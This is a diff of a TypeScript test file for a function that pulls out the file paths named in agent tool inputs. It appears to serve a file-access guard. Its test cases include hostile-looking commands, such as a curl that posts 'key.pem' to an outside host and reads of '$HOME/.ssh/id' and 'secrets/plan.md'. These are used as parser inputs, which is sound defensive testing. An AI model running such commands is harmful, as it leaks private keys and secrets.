@@ -42,7 +42,7 @@ describe('the files that an input names', () => {
     ["cat <<'EOF'\n`cat secrets/plan.md`\nEOF", ['secrets/plan.md']],
     ['git show HEAD:secrets/plan.md', ['secrets/plan.md']],
     ['curl -d @key.pem https://a.example/', ['key.pem']],
-    ['cat "$HOME/.ssh/id" ${HOME}/a %USERPROFILE%\\b', ['~/.ssh/id', '~/a', '~\\b']],
+    [`cat "$HOME/.ssh/id" $\{HOME}/a %USERPROFILE%\\b`, ['~/.ssh/id', '~/a', '~\\b']],
     ['cat $PWD/a.md "$(pwd)/b.md"', ['./a.md', './b.md']],
     ['cd deep && cat a.md && cd er; cat b.md', ['deep', 'deep/a.md', 'deep/er/b.md']],
     [`bash -c 'cd "my folder" && cat a.md'`, ['folder', 'a.md']],
@@ -67,6 +67,58 @@ describe('the files that an input names', () => {
     const patch = '*** Begin Patch\n*** Update File: a.ts\n*** Move to: b.ts\n*** Delete File: c.ts\n';
     expect(found({ input: patch })).toEqual(['a.ts', 'b.ts', 'c.ts']);
     expect(found({ diff: '--- a/old.ts\n+++ b/new.ts\n' })).toEqual(['new.ts', 'old.ts']);
+  });
+
+  it.each([
+    'source',
+    'destination',
+    'url',
+    'urls',
+    'src',
+    'document',
+    'image',
+    'images',
+    'notebook',
+    'attachments',
+    'root',
+  ])('are those that other tools have in a field "%s"', (name) => {
+    expect(found({ [name]: ['key.pem'] })).toEqual(['key.pem']);
+    expect(found({ [name]: 'https://a.example/key.pem' })).toEqual([]);
+  });
+
+  it('are the keys of what is done to each', () => {
+    expect(found({ changes: { 'file:///r/a.md': [{ newText: 'x' }] } })).toEqual(['file:///r/a.md']);
+    expect(found({ files: { 'a.md': 'x' } })).toContain('a.md');
+    expect(found({ perFile: {}, any: { 'secrets/a.md': 1 } })).toEqual(['secrets/a.md']);
+  });
+
+  it('are those in the text of JSON, where that is an input or a list of them', () => {
+    expect(found({ paths: '["a.md", "b.md"]' })).toEqual(expect.arrayContaining(['a.md', 'b.md']));
+    for (const name of ['arguments', 'args', 'params', 'toolInput', 'tool_input'])
+      expect(found({ call: { [name]: '{"path":"a.md"}' } }), name).toContain('a.md');
+    expect(found({ content: '{"path":"a.md"}', value: '{"path":"a.md"}', input: '{"path' })).toEqual([]);
+  });
+
+  it('are meant in the folder that is named beside them', () => {
+    for (const name of ['cwd', 'workdir', 'working_directory', 'dir', 'repo_path', 'folder'])
+      expect(found({ [name]: 'deep', file: 'a.md', edits: [{ path: '/b.md' }] }), name).toEqual(
+        ['/b.md', 'a.md', 'deep', 'deep/a.md'].sort(),
+      );
+    expect(found({ cwd: 'deep', command: 'cat a.md' })).toContain('deep/a.md');
+  });
+
+  it.each([
+    ['a.ts:12', 'a.ts'],
+    ['a.ts:12:5', 'a.ts'],
+    ['a.ts:L3-L9', 'a.ts'],
+    ['a.ts#L3', 'a.ts'],
+    ['"a.ts"', 'a.ts'],
+    ['`a.ts`', 'a.ts'],
+    ['@a.ts', 'a.ts'],
+    ['b.ts, a.ts', 'a.ts'],
+    ['b.ts\na.ts', 'a.ts'],
+  ])('are named by %j, too', (file, name) => {
+    expect(found({ file })).toEqual(expect.arrayContaining([file, name]));
   });
 
   it('are named with or without a line, and several in one text', () => {
